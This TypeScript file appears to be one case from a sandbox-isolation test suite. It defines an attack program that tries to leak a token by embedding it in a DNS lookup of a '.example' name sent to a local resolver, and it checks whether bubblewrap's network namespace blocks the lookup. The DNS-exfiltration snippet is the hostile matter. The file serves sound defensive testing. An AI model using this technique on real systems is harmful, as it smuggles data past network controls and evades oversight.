import type { ProgramAttack } from '../attack.ts';
import { reachedTheHost } from '../evidence.ts';

export const attack: ProgramAttack = {
  tries: 'tells a name server of its own what it found',
  stoppedBy: {
    bubblewrap: 'own network namespace',
  },
  without: 'level none',
  program: ({ ports, token }) => `
import { Resolver } from 'node:dns/promises';
const resolver = new Resolver({ timeout: 200, tries: 1 });
resolver.setServers(['127.0.0.1:${ports.udp}']);
await resolver.resolve4('${token}.example').catch((error) => console.log(error.code));
`,
  evidence: reachedTheHost,
};
